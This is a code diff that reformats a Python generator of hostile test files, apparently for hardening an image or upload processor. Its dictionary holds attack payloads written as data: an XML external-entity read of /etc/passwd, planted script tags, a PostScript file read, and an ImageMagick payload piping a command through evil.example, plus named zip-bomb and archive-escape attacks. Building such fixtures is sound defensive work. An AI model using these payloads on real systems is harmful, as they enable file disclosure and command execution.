@@ -87,12 +87,18 @@ def disguised(folder: Path, chance: random.Random) -> Path:
     into, picture = _any(folder, chance)
     leak = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><svg>&a;</svg>'
     for name, content in {
-        "drawing.png": SVG, "page.jpg": b"<html><script>planted()</script>", "paper.gif": b"%PDF-1.4\n",
-        "post.png": b"%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) run", "deep.png": b"[" * LEVELS, "xml.jpg": leak,
-        "zip.png": b"PK\x03\x04" + bytes(100), "other.gif": picture[:-1] + b"<script>planted()</script>",
-        "movie.png": b"\0\0\0\x18ftypmp42" + bytes(50), "list.png": b"#EXTM3U\nfile:///etc/passwd\n",
+        "drawing.png": SVG,
+        "page.jpg": b"<html><script>planted()</script>",
+        "paper.gif": b"%PDF-1.4\n",
+        "post.png": b"%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) run",
+        "deep.png": b"[" * LEVELS,
+        "xml.jpg": leak,
+        "zip.png": b"PK\x03\x04" + bytes(100),
+        "other.gif": picture[:-1] + b"<script>planted()</script>",
+        "movie.png": b"\0\0\0\x18ftypmp42" + bytes(50),
+        "list.png": b"#EXTM3U\nfile:///etc/passwd\n",
         "magick.jpg": b"push graphic-context\nfill 'url(https://evil.example/|ls)'\n",
-    }.items():  # fmt: skip
+    }.items():
         (into / name).write_bytes(content)
     return folder
 
@@ -233,7 +239,16 @@ def named(folder: Path, _: random.Random) -> Path:
 
 BESIDE: dict[str, Attack] = {}
 ATTACKS: dict[str, Attack] = {
-    "bombs": bombs, "damaged": damaged, "disguised": disguised, "animated": animated, "metadata": metadata,
-    "names": names, "classes": classes, "links": links, "zip-escapes": zip_escapes, "zip-bomb": zip_bomb,
-    "tar-escapes": tar_escapes, "named-folder": named,
-}  # fmt: skip
+    "bombs": bombs,
+    "damaged": damaged,
+    "disguised": disguised,
+    "animated": animated,
+    "metadata": metadata,
+    "names": names,
+    "classes": classes,
+    "links": links,
+    "zip-escapes": zip_escapes,
+    "zip-bomb": zip_bomb,
+    "tar-escapes": tar_escapes,
+    "named-folder": named,
+}
